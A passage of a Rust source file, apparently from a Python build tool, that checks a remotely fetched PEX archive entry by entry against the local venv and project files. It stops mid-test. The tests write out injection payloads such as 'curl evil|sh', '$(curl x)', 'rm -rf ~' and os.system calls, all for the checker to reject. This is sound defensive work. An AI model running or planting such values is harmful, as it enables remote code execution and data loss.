//! A PEX fetched from the remote cache, compared entry by entry with what is here before it
//! is used: whoever could write to the server could otherwise ship anything under an honest
//! key. Every entry must be one of these, or the PEX is refused (the error names it):
//!
//! - the project's own code: one of the input files on disk, byte for byte, at its package
//!   path (`uvapp/cli.py` is `src/uvapp/cli.py`), in the code layer or in the project's
//!   wheel under `.deps/`; its dist-info as the editable install's, when the venv has one;
//! - a dependency's file under `.deps/<wheel>/`: listed in the venv's `RECORD` of that very
//!   distribution with the same sha256 (urlsafe base64, no padding), its `RECORD` a part of
//!   the venv's, its `.layout.json` pex's plain one;
//! - pex's runtime under `.bootstrap/`: the venv's pex, as its `RECORD` lists it;
//! - pex's launchers: `__main__.py` and `__pex__/__init__.py` are the venv's
//!   `pex/pex_boot.py` with pex's call of `boot` after it, the `/bin/sh` header before the
//!   zip is the venv's `pex/sh_boot.py` template with plain values in its places (a
//!   value that could start a command is refused), with at most the inner loop's block
//!   pybuild adds to it, byte for byte the one pybuild writes for this PEX (`boot`), and
//!   `PEX-INFO` adds no other PEX, no environment and no arguments.
//!
//! Without a venv (a fresh clone fetching under the early key) only the project's code can
//! be checked: what else the PEX holds is reported as unchecked, and only a trusted
//! signature lets it be used (see `engine::remote::signature`).

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};

use anyhow::{Context as _, Result, bail, ensure};
use base64::Engine as _;
use sha2::{Digest as _, Sha256};

use super::boot;
use super::code_layer::DIST_INFO_FILES;
use super::pex_info;
use crate::python::build::Build;
use crate::python::installed;
use crate::steps::zip_reader::ZipReader;

/// What a fetched PEX is compared with.
pub(crate) struct Here {
    pub(crate) root: PathBuf,
    /// The project's input files, relative to the root.
    pub(crate) files: Vec<String>,
    /// The venv's site-packages, when it holds the distributions (else only the code is
    /// checked).
    pub(crate) site_packages: Option<PathBuf>,
    /// The project's distribution name.
    pub(crate) project: String,
    /// The workspace members an app carries as its own code (see `strategy::Lib`),
    /// checked like the project's: their files against the inputs.
    pub(crate) members: Vec<String>,
}

/// Checks the PEX at `pex` (a bundle when `code`, else a dependencies PEX, which holds no
/// code of the project). An error names the first entry that is not what it must be;
/// `Some` says what could not be checked here.
pub(crate) fn check(pex: &Path, here: &Here, code: bool) -> Result<Option<String>> {
    // It refuses a zip naming an entry twice: each name below is one entry.
    let mut zip = ZipReader::open(pex).context("the PEX is not a zip pybuild can read")?;
    let names: Vec<String> = zip.names().map(str::to_string).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    let venv = here.site_packages.as_deref().filter(|sp| sp.is_dir());
    let project = here.own();
    // The dist-info folder inside each wheel of `.deps/`.
    let mut wheels: BTreeMap<&str, &str> = BTreeMap::new();
    for name in &names {
        if let Some(rest) = name.strip_prefix(".deps/")
            && let Some((wheel, inner)) = rest.split_once('/')
            && let Some((dist_info, _)) = inner.split_once('/')
            && dist_info.ends_with(".dist-info")
        {
            wheels.insert(wheel, dist_info);
        }
    }
    let mut records: BTreeMap<String, Record> = BTreeMap::new();
    let scripts = venv.map(script_templates).unwrap_or_default();
    let mut unchecked = None;
    for name in names.iter().copied().filter(|n| !n.ends_with('/')) {
        let mut bytes = || zip.read_name(name);
        if let Some(rest) = name.strip_prefix(".deps/") {
            let (wheel, inner) = rest.split_once('/').context("a bad .deps entry")?;
            let dist_info = *wheels
                .get(wheel)
                .with_context(|| format!("{name}: its wheel has no dist-info"))?;
            if is_project(dist_info, &project) {
                ensure!(code, "{name}: the project's code in a dependencies PEX");
                let bytes = bytes()?;
                if inner == ".layout.json" {
                    check_layout(dist_info, &bytes, name)?;
                } else if is_pex_info(inner) {
                    check_pex_info_file(&bytes, name)?;
                } else if inner.starts_with(".prefix/bin/") {
                    ensure!(
                        is_script(&scripts, &bytes),
                        "{name} is not a script pex writes"
                    );
                } else {
                    // The wheel's metadata is the build backend's, not the editable
                    // install's: metadata that runs nothing.
                    check_code(here, None, inner, &bytes, name)?;
                }
                continue;
            }
            let Some(venv) = venv else {
                unchecked = Some("the dependencies (no venv here to check them against)");
                continue;
            };
            if !records.contains_key(dist_info) {
                let path = venv.join(dist_info).join("RECORD");
                let text = fs::read_to_string(&path).map_err(|_| {
                    anyhow::anyhow!("{name}: {dist_info} is not installed in the venv")
                })?;
                records.insert(dist_info.to_string(), Record::parse(&text));
            }
            let record = &records[dist_info];
            check_dependency(record, &scripts, dist_info, inner, &bytes()?, name)?;
        } else if let Some(rest) = name.strip_prefix(".bootstrap/") {
            let Some(venv) = venv else {
                unchecked = Some("pex's runtime (no venv here to check it against)");
                continue;
            };
            check_runtime(venv, &mut records, rest, &bytes()?, name)?;
        } else if name == "PEX-INFO" {
            check_pex_info(&bytes()?)?;
        } else if name == "__main__.py" || name == "__pex__/__init__.py" {
            let Some(venv) = venv else {
                unchecked = Some("pex's launcher (no venv here to check it against)");
                continue;
            };
            check_boot(venv, &bytes()?).with_context(|| format!("{name} is not pex's"))?;
        } else {
            ensure!(code, "{name}: a dependencies PEX holds no such file");
            check_code(here, venv, name, &bytes()?, name)?;
        }
    }
    let header = zip.header()?;
    match venv {
        Some(venv) => {
            let info = zip.read_name("PEX-INFO").ok();
            check_header(venv, &header, info.as_deref())
                .context("its /bin/sh header is not pex's")?
        }
        None => unchecked = unchecked.or(Some("pex's launcher (no venv here)")),
    }
    Ok(unchecked.map(str::to_string))
}

impl Here {
    /// What a PEX of this build is checked against: the input `files` (none for a
    /// dependencies PEX, which holds no code of the project) and the venv's
    /// `site_packages`, when there is one.
    pub(crate) fn of(cx: &Build, files: Vec<String>, site_packages: Option<PathBuf>) -> Here {
        let project = &cx.project;
        Here {
            root: project.root.clone(),
            files,
            site_packages,
            project: project.config.project.name.clone(),
            members: project
                .app
                .iter()
                .flat_map(|app| app.libs.iter().map(|(lib, _)| lib.clone()))
                .collect(),
        }
    }

    /// The normalised names of the distributions whose code is the project's own.
    fn own(&self) -> Vec<String> {
        std::iter::once(&self.project)
            .chain(&self.members)
            .map(|name| installed::normalize(name))
            .collect()
    }
}

/// Whether `dist_info` (`NAME-VERSION.dist-info`) is one of `own`'s: the project's, or a
/// workspace member it carries.
fn is_project(dist_info: &str, own: &[String]) -> bool {
    let stem = dist_info.trim_end_matches(".dist-info");
    stem.rsplit_once('-')
        .is_some_and(|(name, _)| own.contains(&installed::normalize(name)))
}

/// The project's file `path` (in the code layer or the project's wheel): the dist-info
/// files the code layer takes from the editable install as the venv's (when `venv` is
/// given and has them),
/// the rest of its dist-info as metadata that runs nothing, any other file as an input
/// file at that package path, byte for byte.
fn check_code(
    here: &Here,
    venv: Option<&Path>,
    path: &str,
    bytes: &[u8],
    name: &str,
) -> Result<()> {
    if let Some((dist_info, file)) = path.split_once('/')
        && dist_info.ends_with(".dist-info")
    {
        ensure!(
            is_project(dist_info, &here.own()),
            "{name}: the metadata of another distribution than the project"
        );
        if let Some(installed) = venv.map(|venv| venv.join(dist_info).join(file))
            && DIST_INFO_FILES.contains(&file)
            && installed.is_file()
            && fs::read(&installed).ok().as_deref() != Some(bytes)
        {
            bail!("{name} differs from the venv's {}", installed.display());
        }
        return Ok(());
    }
    let suffix = format!("/{path}");
    let candidates: Vec<&String> = here
        .files
        .iter()
        .filter(|file| *file == path || file.ends_with(&suffix))
        .collect();
    ensure!(
        !candidates.is_empty(),
        "{name} is none of the project's files"
    );
    for file in &candidates {
        if fs::read(here.root.join(file)).ok().as_deref() == Some(bytes) {
            return Ok(());
        }
    }
    bail!("{name} differs from the project's {}", candidates[0])
}

/// A dependency's file: in its distribution's `RECORD` in the venv, with the same hash.
fn check_dependency(
    record: &Record,
    scripts: &[Vec<Part>],
    dist_info: &str,
    path: &str,
    bytes: &[u8],
    name: &str,
) -> Result<()> {
    if path == ".layout.json" {
        return check_layout(dist_info, bytes, name);
    }
    if is_pex_info(path) {
        return check_pex_info_file(bytes, name);
    }
    if path == format!("{dist_info}/RECORD") {
        let text = std::str::from_utf8(bytes).with_context(|| format!("{name} is not text"))?;
        // Lines for `.prefix/` name pex's own scripts, each checked as a file of its own.
        for line in text
            .lines()
            .filter(|line| !line.is_empty() && !line.starts_with(".prefix/"))
        {
            ensure!(
                record.lines.contains(line),
                "{name} lists a file the venv's {dist_info}/RECORD does not: {line}"
            );
        }
        return Ok(());
    }
    // What the wheel installs outside site-packages (scripts, data) pex keeps under
    // `.prefix/`; `RECORD` names it from site-packages, three levels below the venv.
    let recorded = match path.strip_prefix(".prefix/") {
        Some(rest) => format!("../../../{rest}"),
        None => path.to_string(),
    };
    match record.hashes.get(&recorded) {
        Some(hash) if *hash == record_hash(bytes) => Ok(()),
        // A console script: pex writes its own (the venv's names the venv's python).
        _ if path.starts_with(".prefix/bin/") && is_script(scripts, bytes) => Ok(()),
        Some(_) => bail!(
            "{name} differs from the venv's (its hash is not the one {dist_info}/RECORD lists)"
        ),
        None => bail!("{name} is not in the venv's {dist_info}/RECORD"),
    }
}

/// A wheel's `.layout.json`: pex's own, with nothing it would add to `sys.path` or stash
/// elsewhere.
fn check_layout(dist_info: &str, bytes: &[u8], name: &str) -> Result<()> {
    let layout: serde_json::Value =
        serde_json::from_slice(bytes).with_context(|| format!("{name} is not JSON"))?;
    let plain = layout.get("stash_dir") == Some(&".prefix".into())
        && layout.get("sys_path_entries") == Some(&serde_json::json!(["."]))
        && layout.get("record_relpath") == Some(&format!("{dist_info}/RECORD").into());
    ensure!(plain, "{name} is not pex's plain layout");
    Ok(())
}

/// Whether `path` (in a wheel) is in the `NAME-VERSION.pex-info/` folder pex keeps about a
/// wheel it built (`original-whl-info.json`): data pex reads, no code.
fn is_pex_info(path: &str) -> bool {
    path.split_once('/')
        .is_some_and(|(dir, file)| dir.ends_with(".pex-info") && file.ends_with(".json"))
}

fn check_pex_info_file(bytes: &[u8], name: &str) -> Result<()> {
    serde_json::from_slice::<serde_json::Value>(bytes)
        .map(drop)
        .with_context(|| format!("{name} is not JSON"))
}

/// Whether `bytes` is one of `scripts` (see [`script_templates`]).
fn is_script(scripts: &[Vec<Part>], bytes: &[u8]) -> bool {
    let text = std::str::from_utf8(bytes).map_or("\0", |t| t.trim_end_matches('\n'));
    scripts
        .iter()
        .any(|template| matches(template, text, script_value))
}

/// The scripts pex writes for a distribution's entry points (`pex/entry_points_txt.py`),
/// with a module and attributes in their places, nothing else.
fn script_templates(venv: &Path) -> Vec<Vec<Part>> {
    let source = fs::read_to_string(venv.join("pex/entry_points_txt.py")).unwrap_or_default();
    templates(&source)
        .iter()
        .filter(|template| template.contains("{modname!r}"))
        .map(|template| parse_template(template))
        .collect()
}

fn script_value(name: &str, value: &str) -> bool {
    let quoted = |v: &str| {
        v.len() > 2 && v.starts_with('\'') && v.ends_with('\'') && plain(&v[1..v.len() - 1], "._")
    };
    match name {
        "shebang" => {
            value == "#!python" || (value.starts_with("#!/") && plain(&value[2..], "/._ -"))
        }
        "modname!r" => quoted(value),
        "attrs!r" => value
            .strip_prefix('(')
            .and_then(|v| v.strip_suffix(')'))
            .is_some_and(|inner| {
                inner
                    .split(',')
                    .map(str::trim)
                    .filter(|attr| !attr.is_empty())
                    .all(quoted)
            }),
        _ => false,
    }
}

/// A file of pex's runtime: the venv's pex's, as its `RECORD` lists it.
fn check_runtime(
    venv: &Path,
    records: &mut BTreeMap<String, Record>,
    path: &str,
    bytes: &[u8],
    name: &str,
) -> Result<()> {
    let pex = installed::dist_info(venv, "pex")
        .with_context(|| format!("{name}: no pex in the venv to check it against"))?;
    let dist_info = pex
        .file_name()
        .context("a dist-info has a name")?
        .to_string_lossy()
        .into_owned();
    if !records.contains_key(&dist_info) {
        let text = fs::read_to_string(pex.join("RECORD"))
            .with_context(|| format!("cannot read {}", pex.join("RECORD").display()))?;
        records.insert(dist_info.clone(), Record::parse(&text));
    }
    match records[&dist_info].hashes.get(path) {
        Some(hash) if *hash == record_hash(bytes) => Ok(()),
        Some(_) => bail!("{name} differs from the venv's pex"),
        // pex writes a lock file beside a module it hashes; it holds nothing.
        None if path.ends_with(".lck") && bytes.is_empty() => Ok(()),
        None => bail!("{name} is not a file of the venv's pex"),
    }
}

/// `PEX-INFO` adds nothing to what runs: no other PEX, no variables, no arguments.
fn check_pex_info(bytes: &[u8]) -> Result<()> {
    let info: serde_json::Value = serde_json::from_slice(bytes).context("PEX-INFO is not JSON")?;
    let empty = |key: &str| match info.get(key) {
        None | Some(serde_json::Value::Null) => true,
        Some(serde_json::Value::String(s)) => s.is_empty(),
        Some(serde_json::Value::Array(a)) => a.is_empty(),
        Some(serde_json::Value::Object(o)) => o.is_empty(),
        Some(_) => false,
    };
    for key in [
        "pex_path",
        "pex_paths",
        "inject_env",
        "inject_args",
        "inject_python_args",
    ] {
        ensure!(empty(key), "PEX-INFO sets `{key}`");
    }
    Ok(())
}

/// `__main__.py` (after an interpreter line) and `__pex__/__init__.py`: the venv's
/// `pex/pex_boot.py`, then pex's call of `boot` with plain values.
fn check_boot(venv: &Path, bytes: &[u8]) -> Result<()> {
    let boot = fs::read_to_string(venv.join("pex/pex_boot.py"))
        .context("cannot read the venv's pex/pex_boot.py")?;
    let text = std::str::from_utf8(bytes).context("not text")?;
    let text = match text.strip_prefix("#!") {
        Some(rest) => {
            let (line, rest) = rest.split_once("\n\n").context("a bad interpreter line")?;
            ensure!(
                line.starts_with('/')
                    && line
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || "/._ -".contains(c))
                    && line.split(' ').count() <= 2,
                "its interpreter line is not plain"
            );
            rest
        }
        None => text,
    };
    let tail = text
        .strip_prefix(boot.as_str())
        .context("it is not pex_boot.py")?;
    ensure!(
        matches(&parse_template(BOOT_CALL), tail, boot_value),
        "its call of boot is not pex's"
    );
    Ok(())
}

const BOOT_CALL: &str = "\n\nresult, should_exit, is_globals = boot(
    bootstrap_dir='.bootstrap',
    pex_root='{pex_root}',
    pex_hash='{hash}',
    hermetic_boot={flag},
    has_interpreter_constraints={flag},
    pex_path=(),
    is_venv={flag},
    inject_python_args=(),
)
if should_exit:
    sys.exit(0 if is_globals else result)
elif is_globals:
    globals().update(result)
";

fn boot_value(name: &str, value: &str) -> bool {
    match name {
        "pex_root" => plain(value, "/._~-"),
        "hash" => value.len() == 40 && value.chars().all(|c| c.is_ascii_hexdigit()),
        "flag" => matches!(value, "True" | "False"),
        _ => false,
    }
}

/// The `/bin/sh` header: `#!/bin/sh`, then the venv's `pex/sh_boot.py` template with each
/// place holding a value pex could have put there and nothing that could start a command,
/// and, in a bundle pybuild layered, the inner loop's block exactly as pybuild writes it
/// for this PEX's `PEX-INFO` (`info`): its dependencies and its `pex_hash` (see `boot`).
fn check_header(venv: &Path, header: &[u8], info: Option<&[u8]>) -> Result<()> {
    let source = fs::read_to_string(venv.join("pex/sh_boot.py"))
        .context("cannot read the venv's pex/sh_boot.py")?;
    let template = templates(&source)
        .into_iter()
        .find(|template| template.contains("INSTALLED_PEX"))
        .context("pex/sh_boot.py has no template pybuild knows")?;
    let text = std::str::from_utf8(header).context("not text")?;
    // Without `--sh-boot`: nothing, or the interpreter's line.
    let plain_shebang = |line: &str| {
        line.starts_with("#!/") && plain(&line[2..], "/._ -") && line.split(' ').count() <= 2
    };
    if text.is_empty() || text.strip_suffix('\n').is_some_and(plain_shebang) {
        return Ok(());
    }
    let text = match text.contains("# pybuild's inner loop") {
        false => text.to_string(),
        true => {
            let info = info.context("the inner loop's block, in a PEX without PEX-INFO")?;
            let pex_hash = serde_json::from_slice::<serde_json::Value>(info)
                .ok()
                .and_then(|info| info.get("pex_hash")?.as_str().map(str::to_string))
                .context("the inner loop's block, in a PEX without a pex_hash")?;
            let deps_hash = pex_info::dependencies_hash(info)?;
            boot::without_inner_loop(text, &deps_hash, &pex_hash)?
        }
    };
    let script = text
        .strip_prefix("#!/bin/sh\n")
        .context("it is no /bin/sh script")?;
    let script = script.trim_end_matches('\n');
    ensure!(
        matches(&parse_template(&template), script, header_value),
        "it is not pex_boot.py's template"
    );
    Ok(())
}

fn header_value(name: &str, value: &str) -> bool {
    match name {
        "venv" => matches!(value, "" | "1"),
        "python" => plain(value, "/._+-"),
        "python_args" | "venv_python_args" => plain(value, " =/._+-"),
        "pex_root" => !value.is_empty() && plain(value, "/._~-"),
        "pex_installed_relpath" => plain(value, "/._-") && !value.split('/').any(|p| p == ".."),
        "pex" => matches!(value, "$0" | "$(dirname \"$0\")"),
        "pythons" => value.split(" \\\n").all(|python| {
            python.len() > 2
                && python.starts_with('"')
                && python.ends_with('"')
                && plain(&python[1..python.len() - 1], "._+-")
        }),
        "check_no_fast_path" => value.split(" -a ").all(|test| {
            test.strip_prefix("-z \"${")
                .and_then(|rest| rest.strip_suffix(":-}\""))
                .is_some_and(|var| plain(var, "_") && !var.is_empty())
        }),
        _ => false,
    }
}

/// Letters, digits and `extra` only.
fn plain(value: &str, extra: &str) -> bool {
    value
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || extra.contains(c))
}

/// The texts of the `dedent("""\ ... """).format(...)` templates of a pex module, each
/// dedented, its escapes undone: `{name}` where a value goes, `{{`/`}}` still doubled
/// (see [`parse_template`]).
fn templates(source: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = source;
    while let Some(at) = rest.find("dedent(") {
        rest = &rest[at + "dedent(".len()..];
        let Some(body) = rest.trim_start().strip_prefix("\"\"\"\\\n") else {
            continue;
        };
        let Some(end) = body.find("\"\"\"") else {
            break;
        };
        rest = &body[end + 3..];
        if !rest.trim_start().starts_with(").format(") {
            continue;
        }
        let raw = body[..end].replace("\\\\", "\\");
        let lines: Vec<&str> = raw.split('\n').collect();
        let indent = lines
            .iter()
            .filter(|line| !line.trim().is_empty())
            .map(|line| line.len() - line.trim_start().len())
            .min()
            .unwrap_or(0);
        let dedented: Vec<&str> = lines
            .iter()
            .map(|line| match line.trim().is_empty() {
                true => "",
                false => &line[indent..],
            })
            .collect();
        found.push(dedented.join("\n").trim_end_matches('\n').to_string());
    }
    found
}

enum Part {
    Text(String),
    Value(String),
}

/// A `str.format` template: text, and `{name}` places; `{{` and `}}` are braces.
fn parse_template(template: &str) -> Vec<Part> {
    let mut parts = Vec::new();
    let mut text = String::new();
    let mut rest = template;
    while let Some(c) = rest.chars().next() {
        if let Some(after) = rest.strip_prefix("{{") {
            text.push('{');
            rest = after;
        } else if let Some(after) = rest.strip_prefix("}}") {
            text.push('}');
            rest = after;
        } else if c == '{'
            && let Some(end) = rest.find('}')
        {
            parts.push(Part::Text(std::mem::take(&mut text)));
            parts.push(Part::Value(rest[1..end].to_string()));
            rest = &rest[end + 1..];
        } else {
            text.push(c);
            rest = &rest[c.len_utf8()..];
        }
    }
    parts.push(Part::Text(text));
    parts
}

/// Whether `text` is `parts` with, in each place, a value `valid` accepts (each value ends
/// at the first place the text after it is found).
fn matches(parts: &[Part], text: &str, valid: fn(&str, &str) -> bool) -> bool {
    let mut rest = text;
    let mut iter = parts.iter().peekable();
    while let Some(part) = iter.next() {
        match part {
            Part::Text(literal) => match rest.strip_prefix(literal.as_str()) {
                Some(after) => rest = after,
                None => return false,
            },
            Part::Value(name) => {
                let end = match iter.peek() {
                    Some(Part::Text(next)) if !next.is_empty() => match rest.find(next.as_str()) {
                        Some(end) => end,
                        None => return false,
                    },
                    _ => rest.len(),
                };
                if !valid(name, &rest[..end]) {
                    return false;
                }
                rest = &rest[end..];
            }
        }
    }
    rest.is_empty()
}

/// A `RECORD`: its lines, and each file's hash as written there.
struct Record {
    lines: BTreeSet<String>,
    hashes: BTreeMap<String, String>,
}

impl Record {
    fn parse(text: &str) -> Record {
        let mut hashes = BTreeMap::new();
        for line in text.lines() {
            // `path,sha256=HASH,size`; a path with a comma is quoted, and never pex's.
            let mut fields = line.rsplitn(3, ',');
            let (_size, hash, path) = (fields.next(), fields.next(), fields.next());
            if let (Some(path), Some(hash)) = (path, hash.and_then(|h| h.strip_prefix("sha256="))) {
                hashes.insert(path.to_string(), hash.to_string());
            }
        }
        Record {
            lines: text.lines().map(str::to_string).collect(),
            hashes,
        }
    }
}

/// A file's hash as `RECORD` writes it: sha256, urlsafe base64 without padding.
fn record_hash(bytes: &[u8]) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_record_hash_is_urlsafe_base64_without_padding() {
        // six 1.15.0's LICENSE, as its RECORD lists it, is of this text's form.
        assert_eq!(
            record_hash(b""),
            "47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU"
        );
        let record = Record::parse("six.py,sha256=abc,12\nsix-1.dist-info/RECORD,,\n");
        assert_eq!(record.hashes.get("six.py").map(String::as_str), Some("abc"));
        assert!(!record.hashes.contains_key("six-1.dist-info/RECORD"));
    }

    #[test]
    fn a_template_accepts_plain_values_and_refuses_a_command() {
        let template = "set -eu\n\nVENV=\"{venv}\"\nPEX=\"{pex}\"\nfor p in \\\n{pythons} \\\n; do\n  [ -z {check_no_fast_path} ]\ndone";
        let parts = parse_template(template);
        let good = "set -eu\n\nVENV=\"1\"\nPEX=\"$0\"\nfor p in \\\n\"python3.11\" \\\n\"python3\" \\\n; do\n  [ -z -z \"${PEX_PATH:-}\" -a -z \"${PEX_TOOLS:-}\" ]\ndone";
        assert!(matches(&parts, good, header_value));
        for evil in [
            good.replace("VENV=\"1\"", "VENV=\"\" curl \"x\""),
            good.replace("\"python3\" \\", "\"python3\"; rm -rf ~ \\"),
            good.replace("PEX=\"$0\"", "PEX=\"$(curl x)\""),
            good.replace("-a -z \"${PEX_TOOLS:-}\"", "] && sh -c x && [ x"),
            format!("{good}\nsh /tmp/x"),
        ] {
            assert!(!matches(&parts, &evil, header_value), "{evil}");
        }
    }

    #[test]
    fn a_value_at_a_template_s_end_takes_the_rest() {
        let template = parse_template("VENV={venv}");
        assert!(matches(&template, "VENV=1", header_value));
        assert!(!matches(&template, "VENV=1; curl x", header_value));
    }

    #[test]
    fn the_templates_are_read_from_pex_s_source() {
        let source = concat!(
            "def f():\n    return dedent(\n        \"\"\"\\\n        set -eu\n\n",
            "        X=\"{{A}}\" \\\\\n            {venv}\n        \"\"\"\n    ).format(\n",
            "    x = dedent(\"no\")\n    y = dedent(\n            \"\"\"\\\n",
            "            {shebang}\n            run()\n            \"\"\"\n        ).format(shebang=s)\n"
        );
        assert_eq!(
            templates(source),
            ["set -eu\n\nX=\"{{A}}\" \\\n    {venv}", "{shebang}\nrun()"]
        );
    }

    #[test]
    fn a_wheel_s_layout_is_pex_s_plain_one_only() {
        let good = r#"{"stash_dir": ".prefix", "sys_path_entries": ["."], "record_relpath": "six-1.dist-info/RECORD", "fingerprint": "x"}"#;
        check_layout("six-1.dist-info", good.as_bytes(), "layout").unwrap();
        for evil in [
            good.replace(r#"["."]"#, r#"[".", "/tmp/evil"]"#),
            good.replace(r#""stash_dir": ".prefix""#, r#""stash_dir": "lib""#),
            good.replace("six-1.dist-info/RECORD", "evil-1.dist-info/RECORD"),
            "[]".to_string(),
        ] {
            assert!(
                check_layout("six-1.dist-info", evil.as_bytes(), "layout").is_err(),
                "{evil}"
            );
        }
    }

    /// pex's runtime in a PEX: each file the venv's pex's, by its `RECORD`'s hash; no file
    /// it lacks, but the empty lock files pex writes beside what it hashes.
    #[test]
    fn pex_s_runtime_is_the_venv_s_pex_file_by_file() {
        let venv = tempfile::tempdir().unwrap();
        let dist_info = venv.path().join("pex-2.105.2.dist-info");
        fs::create_dir_all(&dist_info).unwrap();
        let module = b"# pex\n";
        let line = format!("pex/__init__.py,sha256={},6\n", record_hash(module));
        fs::write(dist_info.join("RECORD"), line).unwrap();
        let mut records = BTreeMap::new();
        let mut check =
            |path: &str, bytes: &[u8]| check_runtime(venv.path(), &mut records, path, bytes, path);
        check("pex/__init__.py", module).unwrap();
        check("pex/.layout.lck", b"").unwrap();
        for (path, bytes) in [
            ("pex/__init__.py", b"# pex\nimport os".as_slice()),
            ("pex/evil.py", module),
            ("pex/.layout.lck", b"import os"),
        ] {
            assert!(check(path, bytes).is_err(), "{path}");
        }
    }

    #[test]
    fn pex_info_adds_nothing_to_what_runs() {
        check_pex_info(br#"{"pex_path": "", "inject_args": [], "venv": true}"#).unwrap();
        for evil in [
            r#"{"pex_path": "/tmp/other.pex"}"#,
            r#"{"pex_paths": ["/tmp/other.pex"]}"#,
            r#"{"inject_env": {"PYTHONPATH": "/tmp"}}"#,
            r#"{"inject_args": ["-c", "x"]}"#,
            r#"{"inject_python_args": ["-X", "importtime"]}"#,
            "not json",
        ] {
            assert!(check_pex_info(evil.as_bytes()).is_err(), "{evil}");
        }
    }

    /// `__main__.py`: an optional plain interpreter line, the venv's `pex_boot.py`, then
    /// pex's call of `boot` with plain values.
    #[test]
    fn the_boot_is_the_venv_s_pex_boot_and_pex_s_call() {
        let venv = tempfile::tempdir().unwrap();
        fs::create_dir_all(venv.path().join("pex")).unwrap();
        fs::write(venv.path().join("pex/pex_boot.py"), "def boot(): pass\n").unwrap();
        let call = BOOT_CALL
            .replace("{pex_root}", "~/.cache/pex")
            .replace("{hash}", &"a".repeat(40))
            .replace("{flag}", "True");
        let good = format!("def boot(): pass\n{call}");
        check_boot(venv.path(), good.as_bytes()).unwrap();
        check_boot(
            venv.path(),
            format!("#!/usr/bin/env python3\n\n{good}").as_bytes(),
        )
        .unwrap();
        for evil in [
            good.replace("pass", "__import__('os').system('x')"),
            good.replace("~/.cache/pex", "$(curl x)"),
            good.replace(&"a".repeat(40), &"z".repeat(40)),
            good.replace(&"a".repeat(40), &"a".repeat(39)),
            good.replace("=True", "=__import__('os')"),
            format!("{good}import os\n"),
            format!("#!/bin/sh -c 'curl x'\n\n{good}"),
        ] {
            assert!(check_boot(venv.path(), evil.as_bytes()).is_err(), "{evil}");
        }
    }

    /// The `/bin/sh` header: nothing, a plain interpreter line, or the venv's pex's
    /// `sh_boot.py` template with plain values in its places.
    #[test]
    fn the_header_is_a_plain_shebang_or_pex_s_template_with_plain_values() {
        let venv = tempfile::tempdir().unwrap();
        fs::create_dir_all(venv.path().join("pex")).unwrap();
        let source = concat!(
            "def f():\n    return dedent(\n        \"\"\"\\\n",
            "        # INSTALLED_PEX\n        VENV=\"{venv}\"\n        PEX=\"{pex}\"\n",
            "        ROOT=\"{pex_root}\"\n        AT=\"{pex_installed_relpath}\"\n",
            "        for p in {pythons}; do [ {check_no_fast_path} ]; done\n",
            "        \"\"\"\n    ).format(venv=v, pex=p)\n"
        );
        fs::write(venv.path().join("pex/sh_boot.py"), source).unwrap();
        let check = |header: &str| check_header(venv.path(), header.as_bytes(), None);
        let good = "#!/bin/sh\n# INSTALLED_PEX\nVENV=\"1\"\nPEX=\"$0\"\nROOT=\"~/.pex\"\nAT=\"venvs/1/ab\"\n\
                    for p in \"python3.11\"; do [ -z \"${PEX_PATH:-}\" ]; done\n";
        check(good).unwrap();
        check("").unwrap();
        check("#!/usr/bin/env python3\n").unwrap();
        for evil in [
            good.replace("\"1\"", "\"1\"; curl x"),
            good.replace("$0", "$(curl x)"),
            good.replace("~/.pex", "$(curl x)"),
            good.replace("~/.pex", ""),
            good.replace("venvs/1/ab", "venvs/../../../etc"),
            good.replace("venvs/1/ab", "venvs/$(x)"),
            good.replace("\"python3.11\"", "\"\""),
            good.replace("\"python3.11\"", "\"py;curl x\""),
            good.replace("PEX_PATH", ""),
            good.replace("PEX_PATH", "X;curl"),
            format!("{good}curl x | sh\n"),
            "#!curl evil\n".to_string(),
            "#!/bin/sh;curl evil|sh\n".to_string(),
            "#!/usr/bin/env python3 -c x\n".to_string(),
        ] {
            assert!(check(&evil).is_err(), "{evil}");
        }
    }

    #[test]
    fn pex_s_data_about_a_wheel_must_be_json() {
        check_pex_info_file(br#"{"filename": "six-1.whl"}"#, "info").unwrap();
        assert!(check_pex_info_file(b"import os", "info").is_err());
    }

    #[test]
    fn a_script_s_shebang_is_python_or_a_plain_path() {
        let template = parse_template("{shebang}\nimport importlib");
        for (shebang, ok) in [
            ("#!python", true),
            ("#!/usr/bin/env python3.11", true),
            ("#!/bin/sh;curl evil|sh", false),
            ("#!/bin/$(curl evil)", false),
            ("#!sh", false),
        ] {
            let script = format!("{shebang}\nimport importlib");
            assert_eq!(matches(&template, &script, script_value), ok, "{shebang}");
        }
    }

    #[test]
    fn only_json_in_a_pex_info_folder_is_pex_s_data() {
        assert!(is_pex_info("six-1.15.0.pex-info/original-whl-info.json"));
        for other in [
            "six/data.json",
            "six-1.15.0.pex-info/hook.py",
            "original-whl-info.json",
        ] {
            assert!(!is_pex_info(other), "{other}");
        }
    }

    /// A dependency's files in a PEX against the venv's `RECORD`: its own `RECORD` may hold
    /// the lines of pex's scripts, no other line the venv's lacks; a script under
    /// `.prefix/bin/` that is not the venv's file must be one pex writes.
    #[test]
    fn a_dependency_s_record_and_scripts_are_the_venv_s() {
        let venv =
            "six.py,sha256=abc,12\n../../../bin/tool,sha256=def,40\nsix-1.dist-info/RECORD,,\n";
        let record = Record::parse(venv);
        let scripts = vec![parse_template(
            "{shebang}\nimport importlib\nm = importlib.import_module({modname!r})",
        )];
        let check = |path: &str, bytes: &str| {
            check_dependency(
                &record,
                &scripts,
                "six-1.dist-info",
                path,
                bytes.as_bytes(),
                path,
            )
        };
        let ours = format!("{venv}\n.prefix/bin/tool,sha256=pex,50\n");
        check("six-1.dist-info/RECORD", &ours).unwrap();
        let evil = format!("{venv}evil.py,sha256=x,1\n");
        assert!(check("six-1.dist-info/RECORD", &evil).is_err());
        // pex's own script for the venv's console script `tool`.
        let script = "#!python\nimport importlib\nm = importlib.import_module('tool')";
        check(".prefix/bin/tool", script).unwrap();
        let evil = script.replace("'tool'", "__import__('os').system('x')");
        assert!(check(".prefix/bin/tool", &evil).is_err());
